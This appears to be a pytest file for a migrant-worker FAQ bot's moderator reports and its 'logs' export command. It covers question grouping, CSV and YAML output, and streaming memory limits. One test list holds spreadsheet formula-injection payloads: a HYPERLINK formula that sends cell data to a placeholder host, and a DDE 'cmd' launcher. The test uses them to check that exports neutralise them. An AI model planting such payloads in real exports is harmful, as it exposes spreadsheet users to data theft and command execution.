"""Moderator reports (bot.reports) and the server-side `logs` command (bot.logs_cli)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import yaml

from bot import logs_cli
from bot.answer import Responder
from bot.reports import CSV_HEADER, csv_row, entry_stubs, group_questions, write_csv
from bot.storage import COLUMNS, Storage, now_iso

ROOT = Path(__file__).resolve().parent.parent


def _row(question: str, at: str = "2026-01-01T00:00:00.000Z", language: str = "en") -> dict[str, object]:
    return {"question": question, "at": at, "language": language}


def test_similar_questions_are_grouped_with_counts(responder: Responder) -> None:
    """Rewordings and typos of one question form one group; the biggest group comes first."""
    rows = [_row("minimum wage in malaysia?"), _row("visa cost japan"), _row("Minimum wage Malaysia"),
            _row("what is the minimum wage in Malaysia")]  # fmt: skip
    groups = group_questions(rows, responder.normalizer)
    assert [(g.count, g.question) for g in groups] == [(3, "minimum wage in malaysia?"), (1, "visa cost japan")]
    assert len(groups[0].wordings) == 3


def test_csv_round_trip_with_awkward_text() -> None:
    """Commas, quotes, newlines and Indonesian text survive the CSV round trip."""
    row = dict.fromkeys(COLUMNS, "")
    row.update(id=1, question='gaji "tidak" dibayar,\nkenapa?', kind="fallback")
    parsed = list(csv.DictReader(io.StringIO(CSV_HEADER + csv_row(row))))
    assert parsed[0]["question"] == 'gaji "tidak" dibayar,\nkenapa?' and parsed[0]["kind"] == "fallback"


FORMULAS = ['=HYPERLINK("http://x/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"]


@pytest.mark.parametrize("question", FORMULAS)
def test_a_formula_in_a_question_is_exported_as_text(question: str) -> None:
    """A question a spreadsheet would run as a formula is written with a leading apostrophe."""
    row = dict.fromkeys(COLUMNS, "")
    row.update(id=1, question=question, kind="fallback", feedback=-1)
    parsed = next(csv.DictReader(io.StringIO(CSV_HEADER + csv_row(row))))
    assert parsed["question"] == "'" + question and parsed["feedback"] == "-1" and parsed["kind"] == "fallback"


def test_entry_stubs_are_yaml_with_the_grouped_phrasings(responder: Responder) -> None:
    """Stubs parse as a knowledge file whose phrasings are the users' own wordings."""
    groups = group_questions([_row("minimum wage malaysia"), _row("minimum wage in malaysia?")], responder.normalizer)
    data = yaml.safe_load(entry_stubs(groups, 5))
    (entry,) = data["entries"]
    assert entry["questions"]["en"] == ["minimum wage malaysia", "minimum wage in malaysia?"]
    assert entry["id"].startswith("new-minimum-wage") and "TODO" in entry["answer"]["en"]


async def _fill(path: Path, count: int, batch: int = 5000) -> None:
    storage = Storage(path)
    await storage.open()
    common = {"user_key": "u", "chat_type": "private", "suggestions": [], "kb_version": "v", "handling_ms": 1}
    await storage.record(
        language="id", question="gaji tidak dibayar", kind="fallback", entry_id=None, score=30, **common
    )
    await storage.record(
        language="en", question="what is the ILO", kind="answer", entry_id="ilo", score=100,
        at="2020-05-05T00:00:00.000Z", **common,
    )  # fmt: skip
    sql = (
        "INSERT INTO exchanges (at, user_key, chat_type, language, question, kind, entry_id, score, suggestions,"
        " kb_version, handling_ms) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"
    )
    at = now_iso()
    for start in range(0, count, batch):
        rows = [
            (at, "u", "private", "en", f"question number {n} " + "x" * 200, "answer", "ilo", 90.0, "[]", "v", 1.0)
            for n in range(start, min(count, start + batch))
        ]
        await storage.db.executemany(sql, rows)
    await storage.db.commit()
    await storage.close()


def logs(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "MIGRANT_BOT_DATA_DIR": str(data)}
    return subprocess.run([sys.executable, "-m", "bot", "logs", *args], capture_output=True, text=True, cwd=ROOT,
                          env=env, timeout=300)  # fmt: skip


def test_logs_commands_over_a_database(tmp_path: Path) -> None:
    """list (jsonl), export (csv), unanswered (yaml), stats and the --kind/--since filters."""
    asyncio.run(_fill(tmp_path / "bot.sqlite3", 3))
    listed = [json.loads(line) for line in logs(tmp_path, "list", "--format", "jsonl").stdout.splitlines()]
    assert len(listed) == 5 and listed[0]["question"].startswith("question number 2")
    text = logs(tmp_path, "export", "--kind", "fallback").stdout
    assert text.startswith("\ufeffid,")  # spreadsheets read it as UTF-8
    exported = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r["question"] for r in exported] == ["gaji tidak dibayar"]
    recent = logs(tmp_path, "export", "--format", "jsonl", "--since", "2021-01-01").stdout.splitlines()
    assert len(recent) == 4
    stubs = yaml.safe_load(logs(tmp_path, "unanswered", "--format", "yaml").stdout)
    assert stubs["entries"][0]["questions"] == {"en": ["TODO: English phrasings"], "id": ["gaji tidak dibayar"]}
    assert "messages from 1 user." in logs(tmp_path, "stats").stdout


def test_logs_bad_date_and_missing_database(tmp_path: Path) -> None:
    """A bad --since and a missing database each give one line and status 2."""
    missing = logs(tmp_path, "list")
    assert missing.returncode == 2 and "database not found" in missing.stderr
    asyncio.run(_fill(tmp_path / "bot.sqlite3", 1))
    bad = logs(tmp_path, "list", "--since", "last tuesday")
    assert bad.returncode == 2 and bad.stderr.strip().startswith("config error: --since: not a date")


def _peak_rss_kb(data: Path) -> int:
    """Peak memory of one `logs export` run, measured by a parent process."""
    probe = (
        "import resource, subprocess, sys; "
        "subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, check=True); "
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "MIGRANT_BOT_DATA_DIR": str(data)}
    done = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "bot", "logs", "export"],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=600, check=True)  # fmt: skip
    return int(done.stdout.strip())


def test_export_memory_does_not_grow_with_the_log(tmp_path: Path) -> None:
    """Exporting 200,000 rows takes about the memory of exporting 2,000 (streamed, not loaded)."""
    small, large = tmp_path / "small", tmp_path / "large"
    asyncio.run(_fill(small / "bot.sqlite3", 2_000))
    asyncio.run(_fill(large / "bot.sqlite3", 200_000))
    grown = _peak_rss_kb(large) - _peak_rss_kb(small)
    assert grown < 15_000, f"export memory grew by {grown} KB for 100× the rows"


@pytest.mark.parametrize("args", [("list", "--kind", "bogus"), ("stats", "--days", "0"), ("list", "--days", "x")])
def test_a_bad_option_is_refused_not_ignored(tmp_path: Path, args: tuple[str, ...]) -> None:
    """An unknown kind or a day count under 1 is a usage error (exit 2), not an empty or default report."""
    asyncio.run(_fill(tmp_path / "bot.sqlite3", 1))
    done = logs(tmp_path, *args)
    assert done.returncode == 2 and "Traceback" not in done.stderr


def test_export_into_a_closed_pipe_is_quiet(tmp_path: Path) -> None:
    """`logs export | head -2` ends without an error message or a traceback."""
    asyncio.run(_fill(tmp_path / "bot.sqlite3", 3000))
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "MIGRANT_BOT_DATA_DIR": str(tmp_path)}
    done = subprocess.run(f"'{sys.executable}' -m bot logs export | head -2", shell=True, capture_output=True,
                          text=True, cwd=ROOT, env=env, timeout=300)  # fmt: skip
    assert len(done.stdout.splitlines()) == 2 and done.stderr == ""


def test_a_one_word_message_is_not_grouped_with_a_question_holding_it(responder: Responder) -> None:
    """ "1" alone and "berapa gaji minimum 1 bulan" are two groups, not one."""
    groups = group_questions([_row("1"), _row("berapa gaji minimum 1 bulan")], responder.normalizer)
    assert len(groups) == 2


def test_review_stops_cleanly_at_the_end_of_input(tmp_path: Path) -> None:
    """No more input (</dev/null, Ctrl-D): "Stopped.", the verdicts given so far kept, no traceback."""
    answers = iter(["x", "c", ""])

    def ask(_: str) -> str:
        try:
            return next(answers)
        except StopIteration:
            raise EOFError from None

    async def scenario() -> str:
        await _fill(tmp_path / "bot.sqlite3", 2)
        storage = Storage(tmp_path / "bot.sqlite3")
        await storage.open()
        out = io.StringIO()
        try:
            await logs_cli._review(storage, out, ask=ask, reply_of=lambda row: f"reply to {row['question']}")
            assert await storage.unreviewed() == 3
        finally:
            await storage.close()
        return out.getvalue()

    text = asyncio.run(scenario())
    assert "[1 of 4]" in text and "please answer c, w, n, s or q" in text and "reply to " in text
    assert "Stopped." in text and "1 verdict(s) saved." in text


def test_the_export_stops_past_its_limit(tmp_path: Path) -> None:
    """Written to a file, with a BOM; past the byte limit it stops and says so."""

    async def rows(count: int) -> AsyncIterator[dict[str, object]]:
        for number in range(count):
            row = dict.fromkeys(COLUMNS, "")
            row.update(id=number, question="x" * 100)
            yield row

    async def export(count: int, limit: int) -> tuple[bool, bytes]:
        with (tmp_path / f"{count}.csv").open("w+b") as out:
            fits = await write_csv(rows(count), out, limit)
            out.seek(0)
            return fits, out.read()

    fits, content = asyncio.run(export(10, 10_000))
    assert fits and content.startswith(b"\xef\xbb\xbfid,") and content.count(b"\r\n") == 11
    fits, content = asyncio.run(export(1000, 10_000))
    assert not fits and 10_000 < len(content) < 10_300
